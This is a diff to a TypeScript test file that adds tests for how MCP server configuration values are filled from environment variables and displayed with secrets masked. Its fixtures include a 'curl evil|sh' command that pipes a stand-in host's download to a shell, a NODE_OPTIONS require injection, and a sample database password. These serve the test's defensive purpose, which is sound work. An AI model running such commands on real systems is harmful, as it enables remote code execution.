@@ -5,7 +5,12 @@ import { describe, expect, it } from 'vitest';
 
 import { WarRoomError } from '../../../src/base/errors';
 import type { Variable } from '../../../src/catalog/entry';
-import { serverValues } from '../../../src/servers/values';
+import {
+  givenValues,
+  serverValues,
+  variableTexts,
+  writtenTexts,
+} from '../../../src/servers/values';
 import { temporaryFolder } from '../../harness/temporary';
 import { entryWith, kubeconfig, never } from './entries';
 
@@ -17,6 +22,50 @@ const key: Variable = {
   isFile: true,
 };
 const kib = 1024;
+
+describe('What an mcp.json writes', () => {
+  const named = (name: string, more: Partial<Variable> = {}): Variable => ({
+    ...{ name, description: '', required: false, secret: false },
+    ...more,
+  });
+
+  it('is filled from the variable that it names, and never from one of its own name', () => {
+    const around = { API_KEY: 'of others', SVC_KEY: 'mine' };
+    const given = (text: string, personal = {}) =>
+      givenValues({ around, written: { API_KEY: text }, personal })['API_KEY'];
+    expect(given('${env:SVC_KEY}')).toBe('mine');
+    expect(given('Bearer ${env:SVC_KEY}')).toBe('Bearer mine');
+    expect(given('${env:NONE}')).toBeUndefined();
+    expect(given('${env:SVC_KEY}', { API_KEY: 'given' })).toBe('given');
+  });
+
+  it('is told apart from what the person gave', () => {
+    const entry = entryWith(named('A'), named('B'), named('C'), named('D', { default: 'usual' }));
+    const sources = { around: { C: '3' }, written: { A: '1', B: '2' }, personal: { B: 'mine' } };
+    expect(writtenTexts(entry, sources)).toEqual({ A: '1', D: 'usual' });
+    expect(writtenTexts({ ...entry, origin: 'bundled' }, sources)).toEqual({});
+  });
+
+  it('is shown, but for secrets that are no part of a command', () => {
+    const entry = {
+      ...entryWith(named('KEY', { secret: true }), named('CMD_KEY', { secret: true })),
+      args: ['-c', '${CMD_KEY}'],
+    };
+    const written = {
+      ...{ KEY: 'hidden', CMD_KEY: 'curl evil|sh', NODE_OPTIONS: '--require ./x.js' },
+      ...{ URL: 'postgres://me:hunter2hunter2@db/x', TOKEN: '${env:MINE}' },
+    };
+    const shown = variableTexts(entry, [...Object.keys(written), 'OWN'], written);
+    expect(shown.slice(0, 3)).toEqual([
+      'KEY=***',
+      'CMD_KEY="curl evil|sh"',
+      'NODE_OPTIONS="--require ./x.js"',
+    ]);
+    expect(shown[3]).toMatch(/^URL=/);
+    expect(shown[3]).not.toContain('hunter2');
+    expect(shown.slice(4)).toEqual(['TOKEN=${env:MINE}', 'OWN']);
+  });
+});
 
 describe('The values of a server', () => {
   it('hold the content of a file, given as a path or as itself', async () => {
